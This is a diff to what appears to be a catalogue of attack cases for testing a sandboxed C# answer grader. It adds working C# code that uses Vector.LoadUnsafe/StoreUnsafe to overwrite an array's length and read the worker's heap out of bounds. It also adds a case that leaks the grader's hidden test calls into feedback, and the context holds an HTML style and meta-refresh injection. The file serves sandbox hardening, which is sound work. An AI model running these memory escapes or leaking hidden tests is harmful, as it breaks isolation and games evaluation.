@@ -258,6 +258,43 @@ allow("a28-gc-and-process-facts",
       "Reads the process's memory facts and forces collections (the grader's business).",
       in_answer("Console.WriteLine(GC.GetGCMemoryInfo().TotalAvailableMemoryBytes);"))
 
+allow("x01-vector-storeunsafe-grows-an-array",
+      "System.Numerics.Vector.LoadUnsafe/StoreUnsafe (allowed with System.Numerics) read and write a whole vector at a "
+      "single element's ref: 24 bytes past a long[1], over the next array's header, so that array's length becomes "
+      "4000 and it reads (and could write) the worker's heap out of bounds; the answer cell prints what it read.",
+      {"top-vetoer-answer": """static string Peek()
+{
+    var chars = new char[4000 * 4];
+    var parts = new long[4];
+    var a = new long[1];
+    var b = new long[1];
+    var v = System.Numerics.Vector.LoadUnsafe(ref a[0]);
+    if (System.Numerics.Vector<long>.Count < 4) return "vectors of two longs: only 8 bytes past the array";
+    v.CopyTo(parts);
+    parts[3] = 4000;
+    System.Numerics.Vector.StoreUnsafe(new System.Numerics.Vector<long>(parts), ref a[0]);
+    var n = b.Length;
+    for (var i = 1; i < n; i++) { var x = b[i]; for (var k = 0; k < 4; k++) { var ch = (char)((x >> (16 * k)) & 0xFFFF); chars[(i - 1) * 4 + k] = ch >= ' ' && ch < 127 ? ch : '.'; } }
+    System.Numerics.Vector.StoreUnsafe(v, ref a[0]);
+    return $"b.Length was {n}, now {b.Length}: " + new string(chars).Replace("....", "");
+}
+Console.WriteLine(Peek());
+static PermanentMember TopVetoer(int decade) => default;"""})
+allow("x02-vector4-loadunsafe-reads-past-a-float",
+      "Vector4.LoadUnsafe and Vector.StoreUnsafe(Vector4, ref float) read and write 12 bytes past a float[1] "
+      "(memory outside any array, with no unsafe code); the answer cell prints what it read.",
+      {"top-vetoer-answer": """static string Peek()
+{
+    var a = new float[1];
+    var b = new float[1];
+    var v = System.Numerics.Vector4.LoadUnsafe(ref a[0]);
+    System.Numerics.Vector.StoreUnsafe(new System.Numerics.Vector4(1, 2, 3, 4), ref a[0]);
+    var seen = System.Numerics.Vector4.LoadUnsafe(ref a[0]);
+    System.Numerics.Vector.StoreUnsafe(v, ref a[0]);
+    return $"read past a[0]: {v}; after writing past it: {seen}";
+}
+Console.WriteLine(Peek());
+static PermanentMember TopVetoer(int decade) => default;"""})
 
 def sandbox(name, what, replace):
     ATTACKS[name] = {"kind": "sandbox", "what": what, "replace": replace}
@@ -443,3 +480,15 @@ outputs("o11-bidi-override-id",
 outputs("o12-style-and-meta-refresh",
         "A style block and a meta refresh in markdown.",
         mutate=markdown_cell("<style>body{display:none}</style><meta http-equiv=\"refresh\" content=\"0;url=http://127.0.0.1:9/\">"))
+
+outputs("x03-hidden-test-calls-printed-by-a-later-answer",
+        "The answer records every call the tests make (passing the visible check so the hidden ones run), and a later "
+        "answer cell prints them: the hidden tests' calls, TopVetoer(1980) and TopVetoer(2010), reach the feedback.",
+        replace={"top-vetoer-answer": """static List<string> Seen = new();
+static PermanentMember TopVetoer(int decade)
+{
+    Seen.Add($"TopVetoer({decade})");
+    return decade == 1940 ? PermanentMember.SovietUnion : PermanentMember.UnitedStates;
+}""",
+                 "replay-answer": """foreach (var s in Seen) Console.WriteLine("the tests called " + s);
+static (int StillBlocked, int WouldPass) DoubleVetoReplay(int fromYear, int toYear) => default;"""})
